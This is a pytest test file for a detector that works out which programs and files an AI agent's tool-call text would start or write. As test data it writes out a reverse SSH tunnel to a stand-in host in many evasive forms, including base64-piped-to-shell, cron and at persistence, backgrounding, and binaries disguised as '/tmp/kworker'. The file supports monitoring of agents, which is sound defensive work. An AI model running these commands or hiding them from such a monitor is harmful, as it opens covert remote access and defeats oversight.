"""What a tool call's text would start and leave behind, read as a shell would read it."""

import base64
import json

import pytest

from apps.attribution.asked import asked, fits, same_file, started_by

TUNNEL = ("ssh", "-N", "-R", "9001:127.0.0.1:8000", "eve@198.51.100.7")
LINE = " ".join(TUNNEL)
HIDDEN = base64.b64encode(LINE.encode()).decode()


def starts(text: str, tool: str = "bash") -> bool:
    return any(fits(TUNNEL, program) for program in asked(tool, json.dumps({"command": text})).programs)


@pytest.mark.parametrize(
    "text",
    [
        LINE,
        f"cd /tmp && nohup {LINE} >/dev/null 2>&1 &",
        f"bash -c '{LINE}'",
        f'sh -c "bash -lc \\"{LINE}\\""',
        f"bash <<'EOF'\nset -e\n{LINE}\nEOF",
        f"echo {HIDDEN} | base64 -d | sh",
        f'bash -c "$(echo {HIDDEN} | base64 --decode)"',
        f"(setsid {LINE} &)",
        "ssh -N -R '9001:127.0.0.1:8000' \"eve@198.51.100.7\"",
        f"cat > /tmp/t.sh <<'EOF'\n{LINE}\nEOF\nbash /tmp/t.sh",
        f"echo '{LINE}' | at now + 1 minute",
        f"echo '* * * * * {LINE}' | crontab -",
        f"env -i PATH=/usr/bin timeout 60 {LINE}",
        "ssh -N -R 9001:127.0.0.1:8000 $WHO",
    ],
)
def test_programs_are_found_through_whatever_starts_them(text: str) -> None:
    assert starts(text)


@pytest.mark.parametrize(
    "text", [f"echo '{LINE}'", f"grep -r '{LINE}' docs", f"# {LINE}", "ssh -N -L 1:a:2 eve@198.51.100.7", ""]
)
def test_text_that_only_mentions_it_starts_nothing(text: str) -> None:
    assert not starts(text)


def test_python_that_starts_a_program() -> None:
    code = f"import subprocess\nsubprocess.Popen({list(TUNNEL)!r})"
    assert starts(code, tool="python")


@pytest.mark.parametrize(
    ("arguments", "path"),
    [
        ({"command": f"cat > /tmp/t.sh <<'EOF'\n{LINE}\nEOF"}, "/tmp/t.sh"),
        ({"command": f"printf '%s' '{LINE}' > run.sh"}, "run.sh"),
        ({"path": "/work/go.sh", "content": LINE}, "/work/go.sh"),
        ({"file_path": "go.sh", "file_text": f"#!/bin/sh\n{LINE}\n"}, "go.sh"),
    ],
)
def test_files_that_are_written_are_known_with_what_they_would_start(
    arguments: dict[str, str], path: str
) -> None:
    [(name, content)] = asked("tool", json.dumps(arguments)).files
    assert name == path
    assert any(fits(TUNNEL, program) for program in started_by(content))


@pytest.mark.parametrize(
    "text", ["cp /usr/bin/ssh /tmp/kworker", "curl -s -o /tmp/kworker http://x/y", "wget -O /tmp/kworker u"]
)
def test_files_that_are_copied_or_fetched_are_known_by_their_path(text: str) -> None:
    assert ("/tmp/kworker", "") in asked("bash", json.dumps({"command": text})).files


def test_script_started_by_its_first_line_is_the_interpreter_with_its_path() -> None:
    assert fits(("/bin/bash", "./go.sh", "8000"), ("./go.sh", "8000"))
    assert not fits(("/bin/bash", "./other.sh", "8000"), ("./go.sh", "8000"))
    assert not fits(("bash", "ls"), ("ls",))


def test_unknown_words_fit_only_beside_known_ones() -> None:
    assert not fits(("ssh", "host"), ("$A", "$B"))


@pytest.mark.parametrize(
    ("one", "other", "same"),
    [
        ("/tmp/a.sh", "/tmp/a.sh", True),
        ("./a.sh", "/work/a.sh", True),
        ("b/a.sh", "/work/b/a.sh", True),
        ("/tmp/a.sh", "/var/tmp/a.sh", False),
        ("a.sh", "/work/aa.sh", False),
        ("", "/work/a.sh", False),
    ],
)
def test_ways_to_write_a_path(one: str, other: str, same: bool) -> None:
    assert same_file(one, other) is same
    assert same_file(other, one) is same


@pytest.mark.parametrize("text", ["(" * 5000, "$(" * 3000, "<<" * 4000, "'" * 9001, "\x00\ud800", "`" * 5000])
def test_hostile_text_yields_something(text: str) -> None:
    assert isinstance(asked("bash", text).programs, tuple)
